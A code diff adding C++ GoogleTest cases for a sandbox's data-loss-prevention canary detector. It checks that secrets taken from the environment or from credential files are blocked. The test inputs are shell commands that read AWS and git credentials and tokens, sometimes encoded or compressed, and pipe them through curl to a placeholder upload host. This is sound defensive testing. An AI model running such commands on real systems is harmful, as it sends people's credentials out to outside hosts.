@@ -103,6 +103,26 @@ TEST_F(Dlp, SecretOfTheCallersEnvironmentIsKnownThoughTheJailNeverSawIt) {
   EXPECT_THAT(run({"env"}).out, Not(HasSubstr("DEPLOY_TOKEN")));
 }
 
+TEST_F(Dlp, CanaryIsRefusedWhereverItIsTakenFromAndWhateverTheRuleSays) {
+  auto const canaries = "dlp: {canaries: [env, files]}\n";
+  jail_.set_policy("version: 1\nname: test\negress:\n  - {name: web, hosts: [allowed.example], dlp: off}\n" + std::string(canaries));
+  std::string const post = " | curl -sS --data-binary @- https://allowed.example/upload";
+  for (std::string const taken : {"env", "env | base64", "printenv DEPLOY_API_TOKEN", "printenv BACKUP_DB_PASSWORD | rev", "cat ~/.aws/credentials",
+                                  "gzip -c ~/.git-credentials", "tar c -C ~ .aws"}) {
+    SCOPED_TRACE(taken);
+    auto const outcome = shell(taken + post);
+    EXPECT_THAT(outcome.out + outcome.err, HasSubstr("secret_found"));
+    EXPECT_FALSE(having(outcome.records, {{"type", "dlp.finding"}, {"detector", "canary"}, {"severity", "critical"}, {"action", "block"}}).empty())
+        << print(outcome.records);
+    EXPECT_EQ(origin_.connections(), 0u) << "ESCAPED";
+  }
+  EXPECT_THAT(shell("echo harmless" + post).out, HasSubstr("9 ")) << "the rest passes";
+}
+
+TEST_F(Dlp, WithoutCanariesNothingIsPlanted) {
+  EXPECT_EQ(shell("ls ~/.aws ~/.git-credentials 2>/dev/null; env | grep -E 'DEPLOY|BACKUP'").out, "");
+}
+
 TEST_F(Dlp, SameRequestWithoutTheSecretPassesByteExact) {
   auto const body = pattern_bytes(1024 * 1024 + 3);
   auto const outcome = run({"curl", "-sS", "--data-binary", "@-", "https://allowed.example/upload"}, body);
